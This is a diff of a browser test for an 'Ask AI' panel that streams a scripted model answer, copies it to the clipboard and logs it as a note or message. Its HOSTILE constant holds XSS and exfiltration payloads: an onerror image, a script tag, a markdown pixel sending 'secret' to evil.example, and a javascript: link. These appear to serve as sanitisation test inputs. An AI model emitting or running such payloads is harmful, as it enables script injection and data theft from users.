@@ -29,6 +29,7 @@ ANSWER = """\
 
 Their terms are on [their site](https://azure.example/terms).
 """
+LINE = "They owe 1,510.50, and wait for an answer about the delivery."
 HOSTILE = """\
 <img src=x onerror="window.attacked = 1"> <script>window.attacked = 2</script>
 ![pixel](https://evil.example/?q=secret) [click](javascript:window.attacked=3)
@@ -84,7 +85,7 @@ def test_from_question_to_note(web, panel, llm):
     expect(panel.where).to_contain_text("in your network")
     web.screenshot("ask-ai-empty-1400")
 
-    llm.script([*spoken(ANSWER[:60]), wait(2), *spoken(ANSWER[60:])])
+    llm.script([*spoken(ANSWER[:60]), wait(2), *spoken(ANSWER[60:])], [say(LINE)])
     panel.button("Summarise").click()
     expect(panel.answer()).to_contain_text("pays late")
     panel.await_state("running")
@@ -97,17 +98,22 @@ def test_from_question_to_note(web, panel, llm):
     panel.ask("And in one line?")
     panel.await_state("done")
     assert ANSWER[:20] in str(llm.sent()[1]["messages"]), "and of what was said before"
-    expect(panel.answer()).to_contain_text("Hello from the script.")
+    expect(panel.answer()).to_contain_text(LINE)
     panel.root.locator(".o_ai_run").first.scroll_into_view_if_needed()
     web.picture("ask-ai")
     web.screenshot("ask-ai-1400")
 
+    web.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    panel.root.locator(".o_ai_copy").first.click()
+    expect(web.page.get_by_text("Copied")).to_be_visible()
+    copied = web.page.evaluate("navigator.clipboard.readText()")
+    assert copied.split() == ANSWER.split(), "as the model wrote it"
     panel.button("Log as note").last.click()
-    note = web.page.locator(".o-mail-Message", has_text="Hello from the script.")
+    note = web.page.locator(".o-mail-Message", has_text=LINE)
     expect(note).to_contain_text("Written by llama3.2")
     panel.button("Insert into message").last.click()
     composer = web.page.locator(".modal .o_mail_composer_form_view, .modal .o_form_view")
-    expect(composer).to_contain_text("Hello from the script.")
+    expect(composer).to_contain_text(LINE)
     web.screenshot("ask-ai-composer-1400")
     web.page.locator(".modal .btn-close").click()
 
